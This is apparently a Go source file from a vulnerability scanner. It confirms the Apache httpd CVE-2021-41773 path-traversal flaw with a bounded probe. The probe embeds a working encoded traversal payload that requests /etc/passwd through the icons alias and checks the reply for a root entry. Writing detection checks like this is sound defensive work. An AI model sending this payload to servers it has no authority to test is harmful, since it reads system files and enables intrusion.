package vulncheck

import (
	"context"
	"io"
	"net/http"
	"strings"
)

// confirmer observes a flaw with a safe, bounded probe.
type confirmer struct {
	// confirm reports whether the flaw is present at base (a URL ending in "/").
	confirm func(ctx context.Context, c *client, base string) bool
}

// confirmers by CVE. Each reads at most a few hundred bytes and keeps no content.
var confirmers = map[string]confirmer{
	// Apache httpd 2.4.49 path traversal: an encoded "../" outside the document root is served.
	// The probe asks for /etc/passwd through the icons alias and looks only for the first
	// line's shape; the content is neither stored nor logged.
	"CVE-2021-41773": {confirm: func(ctx context.Context, c *client, base string) bool {
		const p = "/icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd"
		found := false
		err := c.get(ctx, strings.TrimSuffix(base, "/")+p, func(req *http.Request) {
			req.URL.RawPath = p // keep the encoding as sent
		}, func(resp *http.Response) error {
			b, _ := io.ReadAll(io.LimitReader(resp.Body, 256))
			found = resp.StatusCode == http.StatusOK && strings.HasPrefix(string(b), "root:") && strings.Contains(string(b), ":0:0:")
			return nil
		})
		return err == nil && found
	}},
}

func anyConfirmer(cves []string) *confirmer {
	for _, c := range cves {
		if k, ok := confirmers[c]; ok {
			return &k
		}
	}
	return nil
}
